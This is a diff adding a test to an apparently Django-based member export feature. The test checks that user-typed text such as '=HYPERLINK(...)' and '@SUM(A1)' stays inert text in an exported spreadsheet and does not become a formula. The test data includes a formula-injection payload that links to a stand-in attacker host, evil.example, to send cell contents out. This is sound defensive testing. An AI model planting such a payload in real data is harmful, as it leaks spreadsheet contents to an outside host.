@@ -103,3 +103,16 @@ def test_empty_export_has_the_header_row(specialist):
     out, count = export_members(specialist, tag="nobody")
     header, rows = read(out)
     assert count == 0 and rows == [] and header == export_headers()
+
+
+def test_text_a_member_typed_never_becomes_a_formula_in_the_export(members, specialist):
+    from membercare.members.models import Member
+
+    wang = members[0]
+    Member.objects.filter(pk=wang.pk).update(occupation='=HYPERLINK("http://evil.example/?"&D2,"x")',
+                                             address="@SUM(A1)")
+    out, _count = export_members(specialist)
+    workbook = openpyxl.load_workbook(out)
+    assert not [c.coordinate for row in workbook.active.iter_rows() for c in row if c.data_type == "f"]
+    values = {v for row in workbook.active.iter_rows(values_only=True) for v in row}
+    assert '=HYPERLINK("http://evil.example/?"&D2,"x")' in values and "@SUM(A1)" in values
